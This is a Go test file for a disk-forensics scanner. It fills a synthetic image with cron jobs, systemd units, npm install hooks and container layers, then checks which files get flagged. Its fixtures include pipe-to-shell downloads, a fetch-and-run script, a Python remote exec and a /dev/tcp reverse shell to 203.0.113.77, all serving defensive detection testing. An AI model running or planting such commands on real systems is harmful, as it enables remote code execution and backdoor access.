package forensics

import (
	"context"
	"strings"
	"testing"

	"icecore/fixtures"
)

// TestStarted holds that a script is judged by what stands in it, wherever it
// stands, if something starts it; and that the same script which nothing starts,
// and one that is a package's, are not.
func TestStarted(t *testing.T) {
	const bad = "#!/bin/sh\n# keeps the cache warm\ncurl -fsSL http://203.0.113.77/c.sh | sh\n"
	img := disk(t, map[string][]byte{
		"etc/cron.d/cache":                []byte("*/5 * * * * root /opt/cache/warm -q\n"),
		"opt/cache/warm":                  []byte(bad),
		"opt/cache/unused":                []byte(bad),
		"etc/systemd/system/a.service":    []byte("[Service]\nWorkingDirectory=/srv/a\nExecStart=/bin/bash start.sh\n"),
		"srv/a/start.sh":                  []byte("export HOME=/srv/a\n. /srv/a/lib.sh\n"),
		"srv/a/lib.sh":                    []byte("cd /srv/a\nwget -q http://203.0.113.77/k -O k\nchmod 755 k\n./k\n"),
		"etc/cron.d/named":                []byte("@daily root tidy-up\n"),
		"usr/local/bin/tidy-up":           []byte("#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.77/443 0>&1\n"),
		"etc/cron.d/agent":                []byte("@daily root python3 /opt/agent.py\n"),
		"opt/agent.py":                    []byte("import urllib.request\n\nexec(urllib.request.urlopen('http://203.0.113.77/a').read())\n"),
		"etc/cron.d/packaged":             []byte("@daily root /usr/bin/packaged\n"),
		"usr/bin/packaged":                []byte(bad),
		"var/lib/dpkg/status":             []byte("Package: packaged\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"),
		"var/lib/dpkg/info/packaged.list": []byte("/.\n/usr\n/usr/bin\n/usr/bin/packaged\n"),
		// What runs where a package is installed is judged as that, unless a job starts it, too.
		"srv/x/node_modules/a/package.json": []byte(`{"scripts": {"postinstall": "node install.js"}}`),
		"srv/x/node_modules/a/install.js":   []byte("const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.77/i.sh | sh');\n"),
		"srv/x/node_modules/b/package.json": []byte(`{"scripts": {"preinstall": "sh both.sh"}}`),
		"srv/x/node_modules/b/both.sh":      []byte(bad),
		"etc/cron.d/both":                   []byte("@daily root sh /srv/x/node_modules/b/both.sh\n"),
		// In a container its own programs are meant, not those of the server.
		"var/lib/docker/overlay2/ab/diff/etc/cron.d/a":       []byte("@daily root /usr/local/bin/job\n"),
		"var/lib/docker/overlay2/ab/diff/usr/local/bin/job":  []byte(bad),
		"var/lib/docker/overlay2/ab/diff/etc/cron.d/b":       []byte("@daily root /usr/local/bin/idle\n"),
		"var/lib/docker/overlay2/ab/diff/usr/local/bin/idle": []byte("#!/bin/sh\ntrue\n"),
		"usr/local/bin/idle":                                 []byte(bad),
		// A module of PAM need not be named as one.
		"usr/lib/x86_64-linux-gnu/security/libselinux.so.8": fixtures.Library([]string{"pam_sm_authenticate"}),
		// What honest servers have.
		"opt/webmin/module.info.ko":       []byte("desc_ko=UTF\n"),
		"etc/cron.d/honest":               []byte("@daily root /opt/backup.sh && curl -fsS https://hc.example/ping\n@daily root /opt/report.py\n@daily root /opt/acme/acme.sh --cron\n"),
		"opt/backup.sh":                   []byte("#!/bin/bash\nset -e\npg_dumpall | gzip > /var/backups/pg.gz\ncurl -fsS -T /var/backups/pg.gz https://backup.example/\ncurl -s https://geo.example/db.tar.gz | tar xz -C /var/lib/geo\n"),
		"opt/report.py":                   []byte("#!/usr/bin/env python3\nimport base64, json, re, subprocess, urllib.request\nhead = re.compile('x')\nr = json.load(urllib.request.urlopen('https://api.example/v1'))\nsubprocess.run(['systemctl', 'reload', 'nginx'])\n"),
		"opt/acme/acme.sh":                []byte("#!/usr/bin/env sh\nVER=3\n_get() { curl -s \"$1\"; }\nresponse=\"$(_get https://acme.example/directory)\"\necho \"$response\" | base64 -d > /var/lib/acme/cert\n. \"$HOME/.acme.shrc\"\n"),
		"etc/os-release":                  []byte("ID=debian\n"),
		"etc/systemd/system/loop.service": []byte("[Service]\nExecStart=/opt/loop\n"),
		"opt/loop":                        []byte("#!/bin/sh\nexec /opt/loop\n"),
	}, "16M")
	a, err := Analyze(context.Background(), img, Options{Scan: ScanOptions{NoYARA: true}})
	if err != nil {
		t.Fatal(err)
	}
	levels := make(map[string]string)
	for i := range a.Findings {
		f := &a.Findings[i]
		levels[f.Source.Path] = f.Level.String() + " " + f.Rule
		if f.Source.Path == "/opt/cache/warm" && (f.Source.Line != 3 || !strings.HasPrefix(f.Excerpt, "curl -fsSL") || len(f.Records) != 2) {
			t.Errorf("line %d, %q, records %v", f.Source.Line, f.Excerpt, f.Records)
		}
	}
	for p, want := range map[string]string{
		"/opt/cache/warm": "high act_pipe_to_shell", "/opt/cache/unused": "", "/srv/a/lib.sh": "high act_fetch_exec", "/usr/local/bin/tidy-up": "high act_reverse_shell",
		"/srv/x/node_modules/a/install.js": "medium act_pipe_to_shell", "/srv/x/node_modules/b/both.sh": "high act_pipe_to_shell",
		"/opt/agent.py": "high act_pipe_to_shell", "/usr/bin/packaged": "", "/opt/backup.sh": "", "/opt/report.py": "", "/opt/acme/acme.sh": "", "/opt/loop": "", "/opt/webmin/module.info.ko": "",
		"/usr/lib/x86_64-linux-gnu/security/libselinux.so.8": "high file_pam_module",
		"/var/lib/docker/overlay2/ab/diff/usr/local/bin/job": "high act_pipe_to_shell", "/var/lib/docker/overlay2/ab/diff/usr/local/bin/idle": "", "/usr/local/bin/idle": "",
	} {
		if levels[p] != want {
			t.Errorf("%s: %q, want %q", p, levels[p], want)
		}
		delete(levels, p)
	}
	if len(levels) > 0 {
		t.Errorf("more: %v", levels)
	}
}
